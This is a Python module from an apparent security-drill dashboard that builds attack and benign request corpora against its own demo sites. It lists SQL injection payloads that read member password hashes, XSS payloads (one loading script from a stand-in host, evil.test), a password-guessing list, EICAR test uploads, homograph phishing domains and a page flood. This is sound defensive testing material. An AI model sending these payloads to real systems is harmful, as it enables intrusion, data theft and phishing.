"""The drills' traffic: a fixed attack corpus and a benign corpus per attack type (pure, deterministic, no I/O).

Each corpus is a bounded list of requests against one demo site's endpoint (at most MAX_REQUESTS, attack
and benign together), with the well-known payloads of its kind:

- sql_injection: tautologies, UNION reads of `members` and `sqlite_master`, comment tricks (search `q`);
- xss: script tags, event handlers, javascript: URLs, svg/onload, entity-encoded variants (comment `text`);
- brute_force: one attacker guessing user "demo"'s password from a common-password list, the right one
  late in the list (login form);
- malware: the EICAR anti-virus test string (never real malware) under several names, extensions and
  content types (upload);
- phishing: look-alikes of the site's brand domain, punycode (xn--) and mixed-script hosts (report-link);
- ddos: a burst of page requests from a few attacker clients (pages).

The benign corpus is what honest visitors do on the same endpoint (searches, comments with harmless HTML,
logins with the odd wrong password spread over many visitors, .txt/.pdf uploads, real links, a few page
views each). Benign requests are interleaved with the attack in a fixed pseudo-random order that keeps
each list's own order, so a defense cannot win by the order of the traffic.

`damage()` reads what an attack request that got through really did from the demo site's answer.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from dataclasses import dataclass
from typing import Literal

from secdash.services.battle import demo_app

ATTACK_TYPES = ("ddos", "sql_injection", "xss", "malware", "brute_force", "phishing")
LABELS = {
    "ddos": "DDoS Attack",
    "sql_injection": "SQL Injection",
    "xss": "XSS Attack",
    "malware": "Malware",
    "brute_force": "Brute Force",
    "phishing": "Phishing",
}
MAX_REQUESTS = 300
ATTACKER_CLIENTS = range(0, 100)
VISITOR_CLIENTS = range(100, 200)


@dataclass(frozen=True)
class Technique:
    """A MITRE ATT&CK technique (what the operation's attack is an instance of)."""

    id: str
    name: str
    url: str


MITRE: dict[str, Technique] = {
    # An HTTP flood of page requests exhausts the web service, not the network link: T1499.002 names HTTP
    # floods explicitly; T1498 (Network Denial of Service) is about saturating bandwidth.
    "ddos": Technique(
        "T1499.002", "Endpoint Denial of Service: Service Exhaustion Flood", "https://attack.mitre.org/techniques/T1499/002/"
    ),
    "sql_injection": Technique("T1190", "Exploit Public-Facing Application", "https://attack.mitre.org/techniques/T1190/"),
    # ATT&CK has no XSS technique; script injected into a page that visitors' browsers run is its drive-by.
    "xss": Technique("T1189", "Drive-by Compromise", "https://attack.mitre.org/techniques/T1189/"),
    # The attacker places a malicious file on a public upload service so that it is hosted there for later
    # delivery: Stage Capabilities: Upload Malware. T1105 (Ingress Tool Transfer) is pulling tools into an
    # environment already compromised, which this is not.
    "malware": Technique("T1608.001", "Stage Capabilities: Upload Malware", "https://attack.mitre.org/techniques/T1608/001/"),
    "brute_force": Technique("T1110.001", "Brute Force: Password Guessing", "https://attack.mitre.org/techniques/T1110/001/"),
    "phishing": Technique("T1566.002", "Phishing: Spearphishing Link", "https://attack.mitre.org/techniques/T1566/002/"),
}


@dataclass(frozen=True)
class DrillRequest:
    """One request of a drill, relative to /demo/{slug}."""

    traffic: Literal["attack", "benign"]
    client: int  # logical client: attackers 0..99, visitors 100..199
    method: str
    path: str  # "/", "/search", "/comment", "/login", "/upload", "/report-link"
    params: tuple[tuple[str, str], ...] = ()
    form: tuple[tuple[str, str], ...] = ()
    upload: tuple[str, bytes, str] | None = None  # (filename, content, content type): multipart field "file"
    label: str = ""  # short, for the live log


@dataclass(frozen=True)
class Corpus:
    attack_type: str
    endpoint: str  # the defense's endpoint name (defense.ENDPOINTS)
    requests: tuple[DrillRequest, ...]
    concurrency: int
    max_per_second: float

    @property
    def attack(self) -> tuple[DrillRequest, ...]:
        return tuple(r for r in self.requests if r.traffic == "attack")

    @property
    def benign(self) -> tuple[DrillRequest, ...]:
        return tuple(r for r in self.requests if r.traffic == "benign")


def _attack(client: int, method: str, path: str, label: str, **kwargs: object) -> DrillRequest:
    return DrillRequest("attack", client, method, path, label=label[:80], **kwargs)  # type: ignore[arg-type]


def _benign(client: int, method: str, path: str, label: str, **kwargs: object) -> DrillRequest:
    return DrillRequest("benign", client, method, path, label=label[:80], **kwargs)  # type: ignore[arg-type]


def _visitor(index: int) -> int:
    return VISITOR_CLIENTS.start + index % len(VISITOR_CLIENTS)


# --- SQL injection ------------------------------------------------------------------------------------------

# Each payload closes the LIKE string of `... WHERE hidden = 0 AND name LIKE '%{q}%'` and changes the query.
SQLI_PAYLOADS: tuple[tuple[str, str], ...] = (
    ("%' OR 1=1 --", "tautology OR 1=1"),
    ("' OR 1=1 --", "tautology OR 1=1 (bare)"),
    ("' OR '1'='1' --", "tautology '1'='1'"),
    ("' OR 'a'='a' --", "tautology 'a'='a'"),
    ("' OR 1=1 OR '", "tautology without comment"),
    ("' or true --", "tautology OR true"),
    ("' OR hidden=1 --", "hidden rows OR hidden=1"),
    ("' OR 2>1 --", "tautology OR 2>1"),
    ("x' OR name LIKE '%", "tautology via LIKE"),
    ("%' OR 1=1 /*", "tautology, block comment"),
    ("'/**/OR/**/1=1/**/--", "comment-spaced OR"),
    ("' UNION SELECT username, password_hash FROM members --", "UNION SELECT members"),
    ("' union select username, password_hash from members --", "union select members (lower case)"),
    ("' UnIoN SeLeCt username, password_hash FrOm members --", "UNION SELECT members (mixed case)"),
    ("'/**/UNION/**/SELECT/**/username,password_hash/**/FROM/**/members--", "UNION SELECT members, comment-spaced"),
    ("' UNION ALL SELECT username, password_hash FROM members --", "UNION ALL SELECT members"),
    ("' UNION SELECT group_concat(username), 1 FROM members --", "UNION group_concat usernames"),
    ("' UNION SELECT username, 1 FROM members WHERE '1'='1", "UNION members, no comment"),
    ("' UNION SELECT name, sql FROM sqlite_master --", "UNION SELECT sqlite_master"),
    ("' UNION SELECT tbl_name, type FROM sqlite_master --", "UNION sqlite_master table names"),
    ("' UNION SELECT name, price FROM products WHERE hidden=1 --", "UNION hidden products"),
    ("' AND 1=2 UNION SELECT username, password_hash FROM members --", "AND 1=2 UNION members"),
    ("') OR ('1'='1", "parenthesised tautology"),
    ("' OR 1=1; --", "stacked-query tautology"),
    ("' ORDER BY 3 --", "ORDER BY column probe"),
    ("' AND substr((SELECT password_hash FROM members LIMIT 1),1,1)='a' --", "blind substr probe"),
)
SQLI_BENIGN: dict[str, tuple[str, ...]] = {
    "stock": ("Market", "Portfolio", "Dividend", "tracker", "report", "screener", "pulse", "Union Pacific"),
    "tour": ("City", "Alpine", "Beach", "walk", "planner", "pass", "guide", "Union Square walk"),
    "gem": ("Ring", "Stone", "Vault", "appraisal", "certificate", "storage", "rock 'n' roll", "select cut"),
    "shares": ("Design", "Template", "Creator", "pack", "bundle", "plan", "children's plan", "50% off"),
}


def _sqli(slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    attacks = [
        _attack(i % 3, "GET", "/search", label, params=(("q", payload),))
        for rounds in range(4)
        for i, (payload, label) in enumerate(SQLI_PAYLOADS)
    ]
    terms = SQLI_BENIGN[slug]
    benign = [
        _benign(_visitor(i), "GET", "/search", f"search {terms[i % len(terms)]!r}", params=(("q", terms[i % len(terms)]),))
        for i in range(48)
    ]
    return attacks, benign


# --- XSS ----------------------------------------------------------------------------------------------------

XSS_PAYLOADS: tuple[tuple[str, str], ...] = (
    ("<script>alert(document.cookie)</script>", "script tag"),
    ("<ScRiPt>alert(1)</sCrIpT>", "script tag, mixed case"),
    ("<script src=https://evil.test/x.js></script>", "external script"),
    ("<script\n>alert(1)</script>", "script tag with newline"),
    ('"><script>alert(1)</script>', "attribute break-out + script"),
    ("<img src=x onerror=alert(1)>", "img onerror"),
    ("<IMG SRC=x OnErRoR=alert(1)>", "img onerror, mixed case"),
    ('<img src=x onerror="&#97;lert(1)">', "img onerror, entity-encoded"),
    ("<svg onload=alert(1)>", "svg onload"),
    ("<svg/onload=alert(1)>", "svg/onload"),
    ("<body onload=alert(1)>", "body onload"),
    ("<details open ontoggle=alert(1)>", "details ontoggle"),
    ("<input autofocus onfocus=alert(1)>", "input onfocus"),
    ('<a href="javascript:alert(1)">win a prize</a>', "javascript: link"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript: link, mixed case"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "javascript: link, entity-encoded"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "javascript: link, tab entity"),
    ('<iframe src="javascript:alert(1)"></iframe>', "iframe javascript:"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "iframe srcdoc"),
    ('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', "object data: URL"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mXSS math/style"),
    ('<form action="javascript:alert(1)"><button>go</button></form>', "form javascript: action"),
)
XSS_BENIGN: tuple[str, ...] = (
    "Great tour, <b>thanks</b>!",
    "Loved it. <i>Highly</i> recommended.",
    "Fast delivery and a friendly team :)",
    "Prices went from 5 < 10 euros, still fair",
    "See <em>section 2</em> of the guide",
    "Question: does the plan include onboarding?",
    "My order #1042 arrived on time",
    "Five stars \u2b50\u2b50\u2b50\u2b50\u2b50",
    "The script for the tour video was funny",
    "<b>Bold</b> and <u>underlined</u> notes",
    "Support answered within an hour, thank you",
    "Use code SUMMER for 10% off? It worked for me",
)


def _xss(_slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    attacks = [
        _attack(i % 3, "GET", "/comment", label, params=(("text", payload),))
        for rounds in range(4)
        for i, (payload, label) in enumerate(XSS_PAYLOADS)
    ]
    benign = [
        _benign(
            _visitor(i),
            "GET",
            "/comment",
            f"comment {XSS_BENIGN[i % len(XSS_BENIGN)][:30]!r}",
            params=(("text", XSS_BENIGN[i % len(XSS_BENIGN)]),),
        )
        for i in range(48)
    ]
    return attacks, benign


# --- brute force --------------------------------------------------------------------------------------------

# Common passwords (the usual top of leaked-password lists), then the site-themed guesses a tool would try;
# the demo account's real password ("dragon2024", demo_app._MEMBERS) sits late in the list.
PASSWORD_GUESSES: tuple[str, ...] = (
    "123456",
    "password",
    "123456789",
    "12345678",
    "12345",
    "qwerty",
    "abc123",
    "111111",
    "1234567",
    "password1",
    "iloveyou",
    "123123",
    "000000",
    "admin",
    "letmein",
    "welcome",
    "monkey",
    "football",
    "sunshine",
    "princess",
    "dragon",
    "master",
    "shadow",
    "baseball",
    "superman",
    "trustno1",
    "qwerty123",
    "michael",
    "jordan23",
    "hunter2",
    "starwars",
    "passw0rd",
    "1q2w3e4r",
    "zaq12wsx",
    "login",
    "solo",
    "access",
    "flower",
    "freedom",
    "whatever",
    "demo",
    "demo123",
    "demo2024",
    "Demo2024!",
    "dragon1",
    "dragon123",
    "dragon2023",
    "dragon2024",
    "dragon2025",
    "letmein2024",
)
DEMO_USER = "demo"
# Honest sign-ins: members with their right password, and a few typos first.
LOGIN_BENIGN: tuple[tuple[str, str], ...] = (
    ("alice", "sunshine1"),
    ("bob", "letmein99"),
    ("alice", "sunshine"),  # a typo, then the right one below
    ("alice", "sunshine1"),
    ("bob", "letmein9"),
    ("bob", "letmein99"),
    ("demo", "dragon2024"),
    ("carol", "tulips!"),  # not a member: a wrong username
)


def _brute_force(_slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    attacks = [
        _attack(0, "POST", "/login", f"password guess {n + 1}", form=(("username", DEMO_USER), ("password", guess)))
        for n, guess in enumerate(PASSWORD_GUESSES)
    ]
    # 40 sign-ins over 20 visitors (at most 2 each), so no visitor trips a sensible per-client limit.
    benign = []
    for i in range(40):
        user, password = LOGIN_BENIGN[i % len(LOGIN_BENIGN)]
        benign.append(
            _benign(_visitor(i // 2), "POST", "/login", f"sign-in {user}", form=(("username", user), ("password", password)))
        )
    return attacks, benign


# --- malware (the EICAR test file only) ---------------------------------------------------------------------


def _zipped(name: str, content: bytes) -> bytes:
    """A stored (uncompressed) zip holding `content`, byte-for-byte the same every time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


def _eicar_files() -> list[tuple[str, bytes, str]]:
    eicar = demo_app.EICAR.encode()
    return [
        ("eicar.com", eicar, "application/octet-stream"),
        ("eicar.txt", eicar, "text/plain"),
        ("invoice.pdf.exe", eicar, "application/x-msdownload"),
        ("setup.exe", eicar, "application/octet-stream"),
        ("update.scr", eicar, "application/octet-stream"),
        ("run.bat", eicar, "text/plain"),
        ("install.msi", eicar, "application/x-msi"),
        ("macro.vbs", eicar, "text/vbscript"),
        ("payload.js", eicar, "application/javascript"),
        ("script.ps1", eicar, "text/plain"),
        ("photo.jpg", eicar, "image/jpeg"),
        ("statement.pdf", eicar, "application/pdf"),
        ("notes.docx", eicar, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("eicar_com.zip", _zipped("eicar.com", eicar), "application/zip"),
        ("EICAR.COM", eicar, "application/octet-stream"),
        ("readme", eicar + b"\r\n", "application/octet-stream"),
    ]


BENIGN_FILES: tuple[tuple[str, bytes, str], ...] = (
    ("notes.txt", b"Meeting notes: ship the report on Friday.\n", "text/plain"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "application/pdf"),
    ("figures.csv", b"month,revenue\njan,100\nfeb,120\n", "text/csv"),
    ("readme.txt", b"Thanks for the great service.\n", "text/plain"),
    ("summary.pdf", b"%PDF-1.7\n% quarterly summary\n%%EOF\n", "application/pdf"),
    ("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00", "image/png"),
)


def _malware(_slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    files = _eicar_files()
    attacks = [
        _attack(i % 2, "POST", "/upload", f"EICAR as {name} ({ctype})", upload=(name, content, ctype))
        for rounds in range(3)
        for i, (name, content, ctype) in enumerate(files)
    ]
    benign = [
        _benign(
            _visitor(i),
            "POST",
            "/upload",
            f"upload {BENIGN_FILES[i % len(BENIGN_FILES)][0]}",
            upload=BENIGN_FILES[i % len(BENIGN_FILES)],
        )
        for i in range(36)
    ]
    return attacks, benign


# --- phishing -----------------------------------------------------------------------------------------------


def _idna(host: str) -> str:
    """The punycode (xn--) spelling of a Unicode host."""
    return host.encode("idna").decode("ascii")


def phishing_links(slug: str) -> list[tuple[str, str]]:
    """Look-alike links of the site's brand domain (url, label)."""
    brand = demo_app.BRAND_DOMAINS[slug]
    name, tld = brand.split(".", 1)
    cyrillic = name.replace("o", "\u043e").replace("a", "\u0430").replace("e", "\u0435")  # о а е
    if cyrillic == name:
        cyrillic = "\u0455" + name[1:] if name.startswith("s") else name[:-1] + "\u0456"
    cyrillic_i = "\u0456"
    accented = name + "\u00e9"
    leet = name.replace("o", "0").replace("a", "4").replace("e", "3").replace("i", "1")
    return [
        (f"https://{_idna(cyrillic + '.' + tld)}/login", "punycode homograph"),
        (f"https://{cyrillic}.{tld}/verify", "mixed-script host"),
        (f"https://{_idna(name[:-1] + cyrillic_i + '.' + tld)}/account", "punycode, Cyrillic i"),
        (f"https://{leet}.{tld}/login", "digit swap look-alike"),
        (f"http://{name}i.{tld}/", "doubled letter"),
        (f"https://{name[:-1]}.{tld}/reset", "missing letter"),
        (f"https://{name[1]}{name[0]}{name[2:]}.{tld}/signin", "swapped letters"),
        (f"https://{name[:2]}-{name[2:]}.{tld}/pay", "hyphenated look-alike"),
        (f"https://{brand}.account-verify.top/login", "brand as subdomain"),
        (f"https://{name}-support.example/ticket", "brand plus word"),
        (f"https://secure-{name}.example/update", "word plus brand"),
        (f"https://login.{name}.example.com.session.top/", "brand deep in the host"),
        (f"https://{name.replace('m', 'rn')}.{tld}/" if "m" in name else f"https://{name}.{tld}.co/", "rn for m / extra TLD"),
        (f"https://{_idna(accented + '.' + tld)}/offer", "punycode accent"),
    ]


BENIGN_LINKS: tuple[str, ...] = (
    "https://en.wikipedia.org/wiki/Phishing",
    "https://docs.python.org/3/",
    "https://www.mozilla.org/en-US/firefox/",
    "https://github.com/OWASP/CheatSheetSeries",
    "https://owasp.org/www-project-top-ten/",
    "https://www.example.org/news",
    "https://attack.mitre.org/techniques/T1566/002/",
    "https://www.bbc.co.uk/news/technology",
)


def _phishing(slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    links = phishing_links(slug)
    attacks = [
        _attack(i % 3, "POST", "/report-link", f"{label}: {url}", form=(("url", url),))
        for rounds in range(4)
        for i, (url, label) in enumerate(links)
    ]
    brand = demo_app.BRAND_DOMAINS[slug]
    real = (f"https://{brand}/help", f"https://www.{brand}/pricing", f"https://{brand}/blog/security-tips")
    honest = real + BENIGN_LINKS
    benign = [
        _benign(_visitor(i), "POST", "/report-link", f"link {honest[i % len(honest)]}", form=(("url", honest[i % len(honest)]),))
        for i in range(44)
    ]
    return attacks, benign


# --- DDoS ---------------------------------------------------------------------------------------------------

DDOS_ATTACKERS = 3
DDOS_PER_ATTACKER = 50
DDOS_VISITORS = 20
DDOS_VIEWS_PER_VISITOR = 2


def _ddos(_slug: str) -> tuple[list[DrillRequest], list[DrillRequest]]:
    attacks = [
        _attack(n % DDOS_ATTACKERS, "GET", "/", f"flood page {n + 1}", params=(("page", str(n)),))
        for n in range(DDOS_ATTACKERS * DDOS_PER_ATTACKER)
    ]
    benign = [
        _benign(_visitor(v), "GET", "/" if view == 0 else "/index.html", f"page view {v + 1}.{view + 1}")
        for v in range(DDOS_VISITORS)
        for view in range(DDOS_VIEWS_PER_VISITOR)
    ]
    return attacks, benign


# --- assembly -----------------------------------------------------------------------------------------------

_BUILDERS = {
    "sql_injection": (_sqli, "search"),
    "xss": (_xss, "comment"),
    "brute_force": (_brute_force, "login"),
    "malware": (_malware, "upload"),
    "phishing": (_phishing, "report"),
    "ddos": (_ddos, "pages"),
}
# DDoS: gem answers each page after 2.5 s; 190 requests 50 at a time is 4 rounds (about 10 s) at worst.
_PACE = {"ddos": (50, 100.0)}
_DEFAULT_PACE = (8, 60.0)


def interleave(attacks: list[DrillRequest], benign: list[DrillRequest], seed: str) -> tuple[DrillRequest, ...]:
    """Attack and benign requests mixed in a fixed pseudo-random order that keeps each list's own order."""
    slots = ["a"] * len(attacks) + ["b"] * len(benign)
    random.Random(seed).shuffle(slots)
    a, b = iter(attacks), iter(benign)
    return tuple(next(a) if slot == "a" else next(b) for slot in slots)


def corpus(attack_type: str, slug: str) -> Corpus:
    """The fixed drill traffic of `attack_type` against demo site `slug` (ValueError for an unknown type)."""
    if attack_type not in _BUILDERS:
        raise ValueError(f"unknown attack type {attack_type[:40]!r}; attack types: {', '.join(ATTACK_TYPES)}")
    if slug not in demo_app.BRAND_DOMAINS:
        raise ValueError(f"no demo site {slug[:40]!r}; demo sites: {', '.join(demo_app.BRAND_DOMAINS)}")
    build, endpoint = _BUILDERS[attack_type]
    attacks, benign = build(slug)
    requests = interleave(attacks, benign, f"secdash-drill:{attack_type}:{slug}")
    assert len(requests) <= MAX_REQUESTS, f"{attack_type} corpus has {len(requests)} requests"
    concurrency, rate = _PACE.get(attack_type, _DEFAULT_PACE)
    return Corpus(attack_type, endpoint, requests, concurrency, rate)


def payload(request: DrillRequest) -> str:
    """The part of a request that carries the attack (or the honest input), for logs and findings."""
    if request.upload is not None:
        name, content, ctype = request.upload
        return f"{name} ({ctype}, {len(content)} bytes)"
    fields = dict(request.params) | dict(request.form)
    for key in ("q", "text", "url"):
        if key in fields:
            return fields[key]
    if "password" in fields:
        return f"{fields.get('username', '')} / {fields['password']}"
    return request.path + ("?" + "&".join(f"{k}={v}" for k, v in request.params) if request.params else "")


# --- what an attack that got through did --------------------------------------------------------------------

_HASH = re.compile(r"\b[0-9a-f]{64}\b")
_TAG = re.compile(r"<[a-zA-Z/!]")


def _hidden_names(slug: str) -> list[str]:
    # The fake catalogue's hidden rows (private to the demo site; read here only to recognise a leak).
    return [name for name, _price, hidden in demo_app._PRODUCTS.get(slug, []) if hidden]


def _members() -> list[str]:
    return [user for user, _password in demo_app._MEMBERS]


def damage(request: DrillRequest, status: int, body: str, slug: str) -> str | None:
    """What an attack request that got through did, read from the demo site's answer; None when nothing
    happened (blocked, an error, or benign traffic)."""
    if request.traffic != "attack" or status == 0:
        return None
    if request.path == "/search":
        if status != 200:
            return None
        if _HASH.search(body) or any(f"<li>{user}:" in body or f"<li>{user}," in body for user in _members()):
            return "member table read"
        if "CREATE TABLE" in body or "<li>members:" in body:
            return "database schema read"
        if any(name in body for name in _hidden_names(slug)):
            return "hidden rows exposed"
        return None
    if request.path == "/comment":
        text = dict(request.params).get("text", "")
        return "script reflected unescaped" if status == 200 and _TAG.search(text) and text in body else None
    if request.path == "/login":
        username = dict(request.form).get("username", "")
        return f"account taken over ({username[:40]})" if status == 200 and "Welcome back" in body else None
    if request.path == "/upload":
        return "EICAR test file accepted" if status == 200 and '"accepted":true' in body.replace(" ", "") else None
    if request.path == "/report-link":
        return "look-alike link published" if status == 200 and "Link published" in body else None
    if request.method == "GET":
        return "served during flood" if status == 200 else None
    return None
